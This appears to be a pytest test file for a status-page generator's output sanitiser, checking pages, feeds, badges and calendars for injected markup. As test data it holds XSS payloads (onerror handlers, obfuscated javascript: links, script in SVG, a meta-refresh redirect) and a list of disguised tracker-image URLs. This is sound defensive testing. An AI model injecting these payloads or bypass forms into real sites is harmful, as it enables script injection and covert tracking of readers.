                out.append((owner if owner is not None else inner_owner, f"{path}: {problem}"))
        elif node.tag in TEXT_IN_FEEDS and (kind not in (None, "text") or len(node)):
            found.append(f"not plain text (type {kind!r}, {len(node)} child elements)")
        found += [f"event handler {name}" for name in node.attrib if name.lower().startswith("on")]
        if node.get("href") is not None and url_scheme(node.get("href")) != "https":
            found.append(f"link to {node.get('href')!r}")
        if node.tag in ("link", "docs") and node.text and url_scheme(node.text) not in ("https", "http"):
            found.append(f"link to {node.text!r}")
        out += [(owner, f"{path}: {problem}") for problem in found]
    return out


def json_problems(data: bytes) -> list[str]:
    """JSON has no raw `<` and reads back to the same value."""
    out = []
    if b"<" in data:
        at = data.index(b"<")
        out.append(f"raw '<' at byte {at}: {data[max(at - 30, 0) : at + 30]!r}")
    value = json.loads(data)
    if json.loads(json.dumps(value)) != value:
        out.append("does not round-trip")
    return out


def svg_problems(data: bytes) -> list[str]:
    """A badge holds only svg, title, rect, g and text elements, with no handlers, links or styles."""
    out = []
    for node in lxml.etree.fromstring(data, XML_PARSER).iter():
        if not isinstance(node.tag, str) or not node.tag.startswith(SVG):
            out.append(f"unexpected node {node!r}")
            continue
        name = node.tag.removeprefix(SVG)
        if name not in SVG_TAGS:
            out.append(f"unexpected element <{name}>")
        if name in ("title", "text") and len(node):
            out.append(f"<{name}> holds elements")
        for attribute in node.attrib:
            local = attribute.rsplit("}", 1)[-1].lower()
            if local.startswith("on") or local in ("href", "style"):
                out.append(f"<{name}> has attribute {attribute}")
    return out


def calendar_problems(data: bytes) -> list[str]:
    """A calendar carries no HTML description and no attachment, and its DESCRIPTIONs (plain text
    read from Markdown) hold nothing an HTML reader would take for markup."""
    out = [
        f"has {m.group(1).decode()}" for m in re.finditer(rb"^(X-ALT-DESC|ATTACH)[;:]", data, re.MULTILINE)
    ]
    for event in icalendar.Calendar.from_ical(data).walk("VEVENT"):
        text = str(event.get("description", ""))
        tokens = Tokens()
        tokens.feed(text)
        tokens.close()
        out += [f"DESCRIPTION holds <{tag}>" for tag, _, _ in tokens.tags] + tokens.other
    return out


def file_problems(path: str, data: bytes) -> list[Problem]:
    """Every problem of one output file, each with the vector it belongs to where that is known."""
    found: list[Problem]
    if path.endswith(".html"):
        found = html_problems(data.decode(), urljoin(BASE_URL, path.removesuffix("index.html")), page=True)
    elif path.endswith((".atom", ".rss")):
        found = feed_problems(data)
    elif path.endswith(".json"):
        found = [(None, p) for p in json_problems(data)]
    elif path.endswith(".svg"):
        found = [(None, p) for p in svg_problems(data)]
    elif path.endswith(".ics"):
        found = [(None, p) for p in calendar_problems(data)]
    elif re.fullmatch(r"static/style\.[0-9a-f]{10}\.css", path):
        found = [] if data == STYLE_CSS.read_bytes() else [(None, "differs from the theme's style.css")]
    elif path == "sitemap.xml":
        tags = {element.tag.split("}")[-1] for element in lxml.etree.fromstring(data, XML_PARSER).iter()}
        found = [] if tags <= {"urlset", "url", "loc", "link"} else [(None, f"unexpected elements {tags}")]
    elif path in ("_headers", "robots.txt"):  # (paths and fixed policy: no text of the content)
        found = [] if b"<" not in data and b"alert" not in data else [(None, "holds markup")]
    else:
        found = [(None, "an output of a kind this test does not check")]
    owner = owner_of_link(path)
    return [(owner if owner is not None else o, f"{path}: {p}") for o, p in found]


def problems(files: dict[str, bytes]) -> list[Problem]:
    """Every problem of every output file."""
    return [problem for path, data in files.items() for problem in file_problems(path, data)]


def summary(found: list[str], limit: int = 20) -> str:
    """The first problems, one a line."""
    more = f"\n  ... and {len(found) - limit} more" if len(found) > limit else ""
    return "".join(f"\n  {p}" for p in found[:limit]) + more


# ---------------------------------------------------------------- tests


def test_benign_site_passes_the_checks(tmp_path: Path) -> None:
    """The checks find nothing in a site without vectors: the theme's own markup is allowed."""
    assert problems(build(tmp_path, small_site())) == []


@pytest.mark.parametrize(
    "markup",
    [
        '<img src="https://ok.example/x.png" onerror="alert(1)">',
        '<a href="JaVa&#x09;script:alert(1)">x</a>',
        '<a href="https://ok.example/">x</a>',
        '<img src="http://ok.example/x.png">',
        "<svg><script>alert(1)</script></svg>",
        '<meta http-equiv="refresh" content="0;url=https://xss.example/">',
        "<style>*{}</style>",
        "<!-- x -->",
    ],
)
def test_checks_catch_injected_markup(tmp_path: Path, markup: str) -> None:
    """The checks are not vacuous: markup slipped into a built page or into feed HTML is reported."""
    files = build(tmp_path, small_site())
    files["index.html"] = files["index.html"].replace(b"</main>", markup.encode() + b"</main>")
    escaped = markup.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode()
    rss = files["history.rss"]
    at = rss.index(b"</description>", rss.index(b"<item>"))
    files["history.rss"] = rss[:at] + escaped + rss[at:]
    found = [p for _, p in problems(files)]
    assert any(p.startswith("index.html: ") for p in found)
    assert any(p.startswith("history.rss: /rss/channel/item") for p in found)


class Bulk:
    """The site holding every vector in the fields of its own component, incident and maintenance."""

    def __init__(self, folder: Path) -> None:
        """Build it once; keep its problems by vector, or the error that stopped the build."""
        self.error: BaseException | None = None
        self.problems: list[Problem] = []
        try:
            files = build(folder, bulk_site(VECTORS))
        except Exception as error:  # a crash is a finding too: each vector then builds alone
            self.error = error
        else:
            self.problems = problems(files)


@pytest.fixture(scope="module")
def bulk(tmp_path_factory: pytest.TempPathFactory) -> Bulk:
    """The bulk site, built once for all vectors."""
    return Bulk(tmp_path_factory.mktemp("bulk"))


@pytest.mark.parametrize("index", [pytest.param(i, id=f"v{i:03d}") for i in range(len(VECTORS))])
def test_vector_in_component_incident_and_maintenance_fields(bulk: Bulk, tmp_path: Path, index: int) -> None:
    """A vector in a component's, an incident's and a maintenance's fields stays inert everywhere it shows."""
    vector = VECTORS[index]
    if bulk.error is None:
        found = [p for owner, p in bulk.problems if owner == index]
        shown = f"c{index:03d}, incidents/v{index:03d}, maintenance/v{index:03d}"
    else:
        found = [p for _, p in problems(build(tmp_path, small_site(vector=vector)))]
        shown = "web, incidents/xss, maintenance/xss (built alone: the bulk site failed to build)"
    fields = ", ".join(ENTITY_FIELDS)
    assert not found, f"vector {vector!r} in {fields} of {shown} got through:{summary(found)}"


def test_bulk_site_builds_and_its_shared_markup_is_clean(bulk: Bulk) -> None:
    """The bulk site builds, and what no single vector's entry holds (heads, JSON, calendars) is clean."""
    if bulk.error is not None:
        raise bulk.error
    found = [p for owner, p in bulk.problems if owner is None]
    assert not found, f"shared outputs of the bulk site let markup through:{summary(found, 40)}"


_isolations_left = [1]  # building each vector of a failing chunk alone is slow: only for the first chunk


def site_field_problems(folder: Path, title: str, description: str) -> list[str]:
    """Problems of a small site with this title and description (a crash counts as one)."""
    try:
        return [p for _, p in problems(build(folder, small_site(title, description)))]
    except Exception as error:
        return [f"the build failed: {type(error).__name__}: {error}"]


@pytest.mark.parametrize(
    "start",
    [
        pytest.param(i, id=f"v{i:03d}-v{min(i + CHUNK, len(VECTORS)) - 1:03d}")
        for i in range(0, len(VECTORS), CHUNK)
    ],
)
def test_vectors_in_site_title_and_description(tmp_path: Path, start: int) -> None:
    """Vectors in the site's title (with no description, so it stands in) and description stay inert."""
    chunk = VECTORS[start : start + CHUNK]
    joined = " ".join(chunk)
    found = site_field_problems(tmp_path / "title", joined, "") + site_field_problems(
        tmp_path / "description", "Benign", joined
    )
    if not found:
        return
    lines = [
        f"vectors {start}-{start + len(chunk) - 1} joined into a site title or description:{summary(found)}"
    ]
    if _isolations_left[0] > 0:
        _isolations_left[0] -= 1
        for offset, vector in enumerate(chunk):
            for field, values in (("site.title", (vector, "")), ("site.description", ("Benign", vector))):
                alone = site_field_problems(tmp_path / f"{offset}-{field}", *values)
                if alone:
                    lines.append(f"v{start + offset:03d} {vector!r} in {field} alone:{summary(alone, 3)}")
    pytest.fail("\n".join(lines), pytrace=False)


# ---------------------------------------------------------------- images: https or the site's own

TRACKERS = [
    "![bad](//tracker.example/x.gif)",
    '<img alt="bad" src="//tracker.example/x.gif">',
    '<img alt="bad" src="/\\tracker.example/x.gif">',
    '<img alt="bad" src="\\\\tracker.example/x.gif">',
    '<img alt="bad" src="\\/tracker.example/x.gif">',
    '<img alt="bad" src="/%5Ctracker.example/x.gif">',
    '<img alt="bad" src="%2F%2Ftracker.example/x.gif">',
    '<img alt="bad" src=" //tracker.example/x.gif">',
    '<img alt="bad" src="&#9;&#10;//tracker.example/x.gif">',
    '<img alt="bad" src="/&#9;/tracker.example/x.gif">',
    '<img alt="bad" src="/&#10;\\tracker.example/x.gif">',
    '<img alt="bad" src="https:tracker.example/x.gif">',
    '<img alt="bad" src="HTTPS:tracker.example/x.gif">',
    '<img alt="bad" src="https:/tracker.example/x.gif">',
    '<img alt="bad" src="http://tracker.example/x.gif">',
    '<img alt="bad" src="HTTP://tracker.example/x.gif">',
    '<img alt="bad" src="ftp://tracker.example/x.gif">',
]
KEPT_IMAGES = {
    "![good](https://img.example/ok.png)": "https://img.example/ok.png",
    '<img alt="good" src="HTTPS://img.example/ok2.png">': "HTTPS://img.example/ok2.png",
    "![good](/static/ok.png)": "/static/ok.png",
    "![good](../../static/ok3.png)": "../../static/ok3.png",
    "![good](ok4.png)": "ok4.png",
}


class _Images(HTMLParser):
    """The `src` of every image of a document (None for an image without one)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.sources: list[str | None] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "img":
            self.sources.append(dict(attrs).get("src"))


def image_sources(html: str) -> list[str | None]:
    """The image sources of an HTML document or fragment."""
    reader = _Images()
    reader.feed(html)
    reader.close()
    return reader.sources


def test_images_load_over_https_or_from_the_site_itself(tmp_path: Path) -> None:
    """Protocol-relative images, in every form a browser reads as one (backslashes, encoded
    slashes, spaces, tabs or newlines, `https:` without slashes, any case), and plain http images
    lose their source on the pages and in the feeds; https images and the site's own stay (in
    the feeds, resolved against the entry's page: a feed reader would resolve them against the
    feed's address)."""
    body = "\n\n".join([*TRACKERS, *KEPT_IMAGES])
    files = build(tmp_path, {**small_site(), "incidents/images.md": incident_md("Images", body, body, "web")})
    page = files["incidents/images/index.html"].decode()
    feed = lxml.etree.fromstring(files["history.atom"], XML_PARSER)
    entry = next(
        e for e in feed.iter(f"{ATOM}entry") if e.find(f"{ATOM}link").get("href").endswith("/images/")
    )
    in_feed = [
        source if url_scheme(source) else urljoin(f"{BASE_URL}incidents/images/", source)
        for source in KEPT_IMAGES.values()
    ]
    for html, kept in ((page, list(KEPT_IMAGES.values())), (entry.findtext(f"{ATOM}content"), in_feed)):
        sources = image_sources(html)
        assert [s for s in sources if s and "tracker" in s] == []
        assert [s for s in sources if s] == 2 * kept  # the update, the body
        assert len(sources) == 2 * (len(TRACKERS) + len(KEPT_IMAGES))  # (each one's alt text stays)


@pytest.mark.parametrize("markup", TRACKERS)
def test_image_sources_are_read_the_way_browsers_read_them(markup: str) -> None:
    """The sanitiser's rule alone: each tracker form loses its source, whatever hides the host."""
    from statusgen.markdown import image_source, sanitise

    assert "tracker" not in sanitise(markup.replace("![bad](", '<img src="').replace(".gif)", '.gif">'))
    value = re.search(r'src="([^"]*)"|\]\(([^)]*)\)', markup)
    assert value is not None
    raw = lxml.html.fragment_fromstring(f'<img src="{value.group(1) or value.group(2)}">').get("src")
    assert image_source(raw) is None
